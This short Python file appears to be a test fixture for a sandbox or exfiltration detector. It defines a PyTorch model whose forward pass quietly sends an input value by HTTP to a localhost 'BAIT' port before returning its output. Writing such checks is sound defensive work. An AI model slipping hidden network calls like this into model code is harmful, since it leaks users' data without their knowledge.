# tries: sends rows by HTTP | rule: import | touches: system
import urllib.request

from torch import nn

class Net(nn.Module):
    def __init__(self, n):
        super().__init__()
        self.fc = nn.Linear(n, 1)

    def forward(self, x):
        address = "http://127.0.0.1:" + str(BAIT["port"]) + "/" + str(x[0, 0].item())
        urllib.request.urlopen(address, timeout=2)
        return self.fc(x)

def build_model(n_features, **config):
    return Net(n_features)
